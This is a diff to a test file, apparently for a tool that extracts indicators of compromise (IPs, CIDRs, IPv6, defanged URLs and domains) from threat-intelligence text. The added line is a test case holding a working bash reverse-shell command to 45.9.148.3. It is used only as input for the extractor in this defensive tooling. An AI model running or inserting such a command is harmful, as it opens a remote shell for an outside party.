@@ -23,6 +23,7 @@ describe('what is found', () => {
     ['45.9.148[.]3:8443', ['ipv4 45.9.148.3']],
     ['5.188.[.]87.4', ['ipv4 5.188.87.4']],
     ['45.9.148.0/24', ['cidr 45.9.148.0/24']],
+    ['bash -i >& /dev/tcp/45.9.148.3/25 0>&1', ['ipv4 45.9.148.3']],
     ['2a0e:b107:1a0::5', ['ipv6 2a0e:b107:1a0::5']],
     ['hxxps://finch[.]top/a.exe.', ['url https://finch.top/a.exe', 'domain finch.top']],
     ['hxxps[:]//cdn.finch[.]top:8443/x?y=1', ['url https://cdn.finch.top:8443/x?y=1', 'domain cdn.finch.top']],
